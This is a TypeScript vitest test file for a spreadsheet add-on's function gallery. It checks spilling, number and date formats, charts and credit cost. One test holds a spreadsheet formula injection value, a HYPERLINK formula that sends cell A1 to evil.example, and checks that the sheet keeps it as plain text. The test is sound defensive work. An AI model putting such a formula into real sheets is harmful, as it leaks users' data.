// The gallery that is shown, computed: every block has spilled, nothing on the sheet is an error, and it is cheap.
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { FUNCTIONS } from "../../src/functions/catalogue.ts";
import { openSandboxAccess } from "../../workbench/api-access.ts";
import { readBundle } from "../../workbench/emulator/host.ts";
import { GALLERY } from "../../workbench/gallery.ts";
import { placesIn, tableRange } from "../../workbench/gallery-places.ts";
import { gallerySheet } from "../../workbench/gallery-sheet.ts";
import { DEMO_KEY } from "../../workbench/sandbox/keys.ts";
import { fillSheet } from "../../workbench/sheet-description.ts";
import { openWorkbench, type Workbench } from "../../workbench/workbench.ts";
import { cellName } from "../../workbench/workbook/a1-notation.ts";
import type { Cell } from "../../workbench/workbook/workbook.ts";
import { area, cellAt, values } from "./workbook/workbook-bench.ts";

const { placed } = placesIn(GALLERY);
const { charts = [] } = gallerySheet(GALLERY);
const byFormula = placed.map((one) => [one.formula, one] as const);

let workbench: Workbench;
let creditsSpent = 0;

beforeAll(async () => {
  const access = await openSandboxAccess();
  const creditsBefore = access.creditsLeft(DEMO_KEY) ?? Number.NaN;
  workbench = await openWorkbench({
    bundle: readBundle("dist"),
    access,
    fill: (book) => fillSheet(book, 0, gallerySheet(GALLERY)),
    evaluatesWithoutPage: true,
  });
  await vi.waitUntil(() => !workbench.workbook.hasPendingFormulas(), { timeout: 90_000, interval: 100 });
  creditsSpent = creditsBefore - (access.creditsLeft(DEMO_KEY) ?? Number.NaN);
});

afterAll(() => workbench?.close());

/** Everything on the sheet, with a margin. */
function cellsOnSheet(): Cell[] {
  const { workbook } = workbench;
  const { rowCount, columnCount } = workbook.sheets()[0] ?? { rowCount: 0, columnCount: 0 };
  return workbook.read({ sheetId: 0, row: 0, column: 0, rowCount, columnCount }).flat();
}

function shownIn(reference: string): string {
  const { workbook } = workbench;
  const { row, column } = area(reference);
  const position = { sheetId: workbook.engineSheetId(0), row, col: column };
  return workbook.model.getters.getEvaluatedCell(position).formattedValue;
}

describe("the gallery", () => {
  it("has a block for every function", () => {
    const called = new Set(placed.flatMap(({ formula }) => formula.match(/\bSER_\w+/g) ?? []));
    expect(Object.keys(FUNCTIONS).filter((name) => !called.has(name))).toEqual([]);
  });

  it("shows no error and nothing unfinished", () => {
    const texts = cellsOnSheet().flatMap(({ value, error }) => [
      ...(error === undefined ? [] : [error.message ?? error.type]),
      ...(typeof value === "string" && /^SER-\d|^Loading/.test(value) ? [value] : []),
    ]);
    expect(texts).toEqual([]);
  });

  it.each(byFormula)("spills %s into the room it has", (_formula, one) => {
    const { row, column, rowCount, columnCount } = area(tableRange(one));
    const around = { sheetId: 0, row, column, rowCount: rowCount + 1, columnCount: columnCount + 1 };
    const cells = workbench.workbook.read(around).map((line) => line.map(({ value }) => value));
    const isBlank = (value: unknown) => value === null || value === "";
    const filled = cells.filter((line) => line.some((value) => !isBlank(value)));
    expect(filled.length).toBeGreaterThan(1);
    // Ranks alone may leave rows free.
    if (rowCount < 100) expect(filled.length).toBe(rowCount);
    expect(cells.at(-1)?.every(isBlank)).toBe(true);
    expect(cells.every((line) => isBlank(line.at(-1)))).toBe(true);
    expect(cells[0]?.slice(0, -1).some(isBlank)).toBe(false);
  });

  it("shows each cell as its column says: counts with separators, days as dates", () => {
    const patterns = { date: /^\d{4}-\d{2}-\d{2}$/, count: /^\d{1,3}(,\d{3})*$/, rank: /^\d{1,3}$/ };
    const odd = placed.flatMap((one) =>
      one.columns.flatMap((kind, column) => {
        if (kind === "text" || kind === "wide" || one.block.dateRows !== undefined) return [];
        const cells = area(tableRange(one, { first: one.block.hasTitles === false ? 0 : 1, column }));
        return Array.from({ length: cells.rowCount }, (_, index) => {
          const name = cellName(cells.row + index, cells.column);
          return `${name} ${shownIn(name)}`;
        }).filter((shown) => !patterns[kind].test(shown.split(" ")[1] ?? "") && !shown.endsWith(" "));
      }),
    );
    expect(odd).toEqual([]);
  });

  it("has dates that equal DATE() of the day they show", () => {
    const { workbook } = workbench;
    // An age is a moment of a day.
    const dated = placed.filter(({ columns, formula }) => columns.includes("date") && !formula.includes("SER_AGE"));
    expect(dated.length).toBeGreaterThan(7);
    for (const one of dated) {
      const { row, rowCount } = area(tableRange(one));
      for (const at of [row + 1, row + rowCount - 1]) {
        const name = cellName(at, one.columns.indexOf("date"));
        const [year, month, day] = shownIn(name).split("-").map(Number);
        const formula = `=${name}=DATE(${year},${month},${day})`;
        const [[answer] = []] = workbook.evaluate({ sheetId: 0, row: 0, column: 20 }, formula);
        expect([formula, answer?.value]).toEqual([formula, true]);
      }
    }
  });

  it("has credits with separators and days as dates in one column", () => {
    const credits = placed.find(({ formula }) => formula.includes("SER_CREDITS"));
    const { row, rowCount } = area(tableRange(credits ?? failed("There is no block of credits.")));
    const shown = Array.from({ length: rowCount }, (_, index) => shownIn(`B${row + index + 1}`));
    expect(shown).toContain("1,000,000,000");
    expect(shown.filter((text) => /^\d{4}-\d{2}-\d{2}$/.test(text))).toHaveLength(3);
    expect(shown.filter((text) => /^\d{5}/.test(text))).toEqual([]);
  });

  it.each(charts.map((chart) => [chart.title, chart] as const))("has numbers under the chart %s", (_title, chart) => {
    for (const range of chart.values) {
      const [first, ...others] = values(workbench.workbook, range).flat();
      expect(typeof first).toBe(chart.hasTitles === true ? "string" : "number");
      // Ranks that do not occur leave blank rows at the end.
      const numbers = others.filter((value) => value !== null && value !== "");
      expect(numbers.length).toBeGreaterThan(0);
      expect(numbers.every((value) => typeof value === "number")).toBe(true);
    }
  });

  it("shows a link's text that looks like a formula as the text it is", () => {
    const anchors = placed.find(({ formula }) => formula.startsWith("=SER_ANCHORS")) ?? failed("No anchors.");
    const hostile = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';
    const { row, rowCount } = area(tableRange(anchors));
    const places = Array.from({ length: rowCount }, (_, index) => `A${row + index + 1}`);
    const found = places.find((place) => cellAt(workbench.workbook, place).value === hostile);
    expect(found && cellAt(workbench.workbook, found)).toEqual({ value: hostile });
  });

  it("costs about 1,540 credits, less what formulas of the same moment happen to share", () => {
    expect(creditsSpent).toBeGreaterThan(1_350);
    expect(creditsSpent).toBeLessThan(1_600);
  });
});

function failed(text: string): never {
  throw new Error(text);
}
